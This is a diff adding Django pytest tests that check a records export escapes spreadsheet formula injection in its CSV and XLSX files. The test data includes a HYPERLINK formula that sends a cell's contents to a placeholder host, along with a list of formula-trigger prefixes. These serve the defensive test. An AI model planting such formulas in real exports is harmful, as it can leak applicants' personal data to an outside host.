@@ -4,6 +4,7 @@ export, role access."""
 
 import csv
 import io
+import zipfile
 
 import pytest
 from django.utils.translation import gettext as _
@@ -226,3 +227,50 @@ def test_bad_parameters_are_400_in_indonesian(client, desk_users):
     response = client.get(PPID_EXPORT, {"year": 2025, "format": "pdf"})
     assert response.status_code == 400 and "CSV" in response.content.decode()
     assert ExportLog.objects.count() == 0
+
+
+# --- issue 15 item 5: formula injection ---------------------------------------------------------------------
+FORMULA_NAME = '=HYPERLINK("http://contoh.invalid/?d="&A2,"klik")'
+FORMULA_SUBJECT_STARTS = ("+62 811", "-1+1", "@SUM(1)", "\tTAB")
+
+
+@pytest.fixture
+def poisoned_request(ppid_year):
+    """A 2025 request filed with a formula as the applicant's name and formula-like texts elsewhere."""
+    from layanan.core.models.tickets import Ticket
+
+    ticket = ppid_year["R3"]
+    Ticket.objects.filter(pk=ticket.pk).update(applicant_name=FORMULA_NAME, applicant_phone="+6281100011")
+    return ticket
+
+
+def test_csv_export_never_starts_a_cell_with_a_formula(client, poisoned_request, desk_users):
+    client.force_login(desk_users["ppid"])
+    response = client.get(PPID_EXPORT, {"year": 2025, "format": "csv", "content": "requests", "personal_data": "1"})
+    rows = _csv(response)
+    cells = [cell for row in rows for cell in row]
+    assert "'" + FORMULA_NAME in cells  # the text is kept, shown as text
+    assert "'+6281100011" in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_xlsx_export_stores_formula_like_text_as_text(client, poisoned_request, desk_users):
+    client.force_login(desk_users["ppid"])
+    response = client.get(PPID_EXPORT, {"year": 2025, "format": "xlsx", "personal_data": "1"})
+    workbook = _xlsx(response)
+    found = [
+        cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row if cell.value == FORMULA_NAME
+    ]
+    assert found and all(cell.data_type == "s" for cell in found)  # text, not a formula
+    assert all(cell.quotePrefix for cell in found)
+    raw = zipfile.ZipFile(io.BytesIO(response.content))
+    sheets = [raw.read(n).decode() for n in raw.namelist() if n.startswith("xl/worksheets/")]
+    assert not any("<f>" in xml or "<f " in xml for xml in sheets)  # no formula anywhere in the workbook
+
+
+@pytest.mark.parametrize("text", FORMULA_SUBJECT_STARTS)
+def test_every_formula_trigger_is_neutralised(text):
+    from layanan.reports.exports import spreadsheet_text
+
+    assert spreadsheet_text(text) == "'" + text
+    assert spreadsheet_text(-5) == -5 and spreadsheet_text("Budi") == "Budi"
